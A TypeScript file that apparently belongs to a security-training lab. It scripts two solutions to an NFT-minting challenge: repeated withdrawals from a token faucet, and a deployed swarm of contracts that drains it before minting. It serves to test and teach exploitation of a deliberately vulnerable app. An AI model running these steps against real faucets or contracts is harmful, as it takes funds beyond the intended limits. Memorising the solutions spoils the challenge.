import type { Attack, Tools } from '#lab'
import { BEES, FAUCET, mint } from './steps.ts'

/** A customer with a connected wallet. */
async function visitor({ http, chain, expect }: Tools): Promise<string> {
  await http.get('/rest/web3/nftMintListen')
  const [from] = await chain.accounts()
  expect(from !== undefined, 'there is no account')
  return from ?? ''
}

export const attacks: Attack[] = [
  {
    challenge: 'nftMintChallenge',
    name: 'withdraw 255 bees four times over, then mint',
    run: async (tools) => {
      const from = await visitor(tools)
      const faucet = await tools.chain.at('BeeFaucet', FAUCET)
      for (let time = 0; time < 4; time++) await faucet.write('withdraw', [255], { from })
      await mint(tools, from)
    },
  },
  {
    challenge: 'nftMintChallenge',
    name: 'send a swarm of contracts to the faucet, each with a wallet of its own',
    run: async (tools) => {
      const from = await visitor(tools)
      await tools.chain.deploy('Swarm', { from, args: [FAUCET, BEES, 4] })
      await mint(tools, from)
    },
  },
]
